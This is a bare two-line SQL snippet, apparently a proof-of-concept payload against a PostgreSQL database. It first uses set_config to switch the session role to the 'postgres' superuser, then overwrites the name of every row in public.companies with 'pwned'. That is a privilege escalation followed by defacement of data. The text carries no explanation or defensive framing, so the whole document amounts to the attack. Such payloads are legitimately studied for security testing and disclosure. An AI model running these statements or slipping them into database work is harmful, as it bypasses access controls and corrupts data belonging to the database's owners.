SELECT set_config('role', 'postgres', false);
UPDATE public.companies SET name = 'pwned';
